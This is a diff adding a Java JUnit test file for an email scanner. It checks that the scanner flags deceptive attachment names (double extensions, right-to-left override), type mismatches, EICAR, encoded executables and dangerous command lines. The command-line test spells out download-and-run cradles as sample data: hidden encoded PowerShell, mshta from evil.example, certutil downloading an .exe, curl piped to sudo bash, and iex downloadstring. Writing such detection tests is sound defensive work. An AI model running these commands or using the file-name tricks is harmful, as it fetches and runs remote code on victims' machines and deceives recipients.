@@ -1,0 +1,87 @@
+package org.streamail.detect.content.internal;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
+import static org.streamail.detect.content.internal.Samples.*;
+
+import java.util.Base64;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.streamail.api.model.Finding;
+
+class NameAndTextTest {
+
+    @Test
+    void aDoubleExtensionIsFound() {
+        List<Finding> f = scanAttachment("invoice.pdf.exe", "application/pdf", utf8("not really"));
+        assertThat(only(f, "double-extension").part()).isEqualTo("invoice.pdf.exe");
+        assertThat(rules(scanAttachment("photo.jpg      .scr", "image/jpeg", utf8("x")))).contains("double-extension");
+        assertThat(rules(scanAttachment("report.final.pdf", "application/pdf", pdf("")))).isEmpty();
+    }
+
+    @Test
+    void bidiControlsInANameAreFound() {
+        String name = "invoice\u202Efdp.exe";
+        Finding f = only(scanAttachment(name, "application/pdf", pe()), "bidi-filename");
+        assertThat(f.detail()).contains("<U+202E>");
+        assertThat(rules(scanAttachment("a\u2066b.txt", "text/plain", utf8("x")))).contains("bidi-filename");
+    }
+
+    @Test
+    void disagreeingNamesAreFoundButUnicodeNormalFormsAgree() {
+        List<Finding> f = scan(message("", "", attachment("invoice.pdf", "invoice.exe", "application/pdf", pdf(""))));
+        assertThat(only(f, "name-mismatch").detail()).contains("invoice.exe");
+        String nfd = "re\u0301sume\u0301.pdf";
+        String nfc = "r\u00e9sum\u00e9.pdf";
+        assertThat(scan(message("", "", attachment(nfd, nfc, "application/pdf", pdf(""))))).isEmpty();
+    }
+
+    @Test
+    void aDeclaredTypeThatDisagreesWithTheContentIsFound() {
+        byte[] zip = zip("a.txt", utf8("x"));
+        assertThat(only(scanAttachment("photo.jpg", "image/jpeg", zip), "type-mismatch").detail())
+                .contains("image/jpeg").contains("ZIP");
+        assertThat(rules(scanAttachment("report.pdf", "application/octet-stream", zip))).contains("type-mismatch");
+        assertThat(scanAttachment("data.zip", "application/zip", zip)).isEmpty();
+    }
+
+    @Test
+    void theEicarTestStringIsFoundInBodiesAttachmentsAndArchives() {
+        String eicar = new String(eicar(), java.nio.charset.StandardCharsets.US_ASCII);
+        assertThat(only(scan(message(eicar, "")), "eicar").part()).isEqualTo("text body");
+        assertThat(only(scanAttachment("eicar.com", "application/octet-stream", eicar()), "eicar").part())
+                .isEqualTo("eicar.com");
+        assertThat(only(scanAttachment("t.zip", "application/zip", zip("eicar.txt", eicar())), "eicar").part())
+                .isEqualTo("t.zip!/eicar.txt");
+    }
+
+    @Test
+    void base64AndHexBlobsThatDecodeToAnExecutableAreFound() {
+        String b64 = Base64.getMimeEncoder().encodeToString(pe());
+        assertThat(only(scan(message("Please run this:\n" + b64 + "\n", "")), "base64-executable").part())
+                .isEqualTo("text body");
+        String hex = java.util.HexFormat.of().formatHex(pe());
+        assertThat(rules(scan(message("", "<pre>" + hex + "</pre>")))).contains("base64-executable");
+        String png = Base64.getEncoder().encodeToString(new byte[] {(byte) 0x89, 'P', 'N', 'G', 1, 2, 3, 4, 5, 6});
+        assertThat(scan(message("logo: " + png + " TVqQ and some words", ""))).isEmpty();
+    }
+
+    @Test
+    void dangerousCommandLinesAreFound() {
+        assertThat(only(scan(message("run: powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "")),
+                "command-line").detail()).contains("PowerShell");
+        assertThat(rules(scan(message("mshta https://evil.example/a.hta", "")))).contains("command-line");
+        assertThat(rules(scan(message("certutil -urlcache -split -f http://x/a.exe a.exe", ""))))
+                .contains("command-line");
+        assertThat(rules(scan(message("curl -s https://x.example/i.sh | sudo bash", "")))).contains("command-line");
+        assertThat(rules(scanAttachment("setup.txt", "text/plain",
+                utf8("cmd.exe /c powershell iex(new-object net.webclient).downloadstring('http://x')"))))
+                .contains("command-line");
+    }
+
+    @Test
+    void proseAboutToolsIsNotACommandLine() {
+        assertThat(scan(message("Our PowerShell training covers certutil basics and how mshta works. "
+                + "Use curl to test the API.", ""))).isEmpty();
+    }
+}
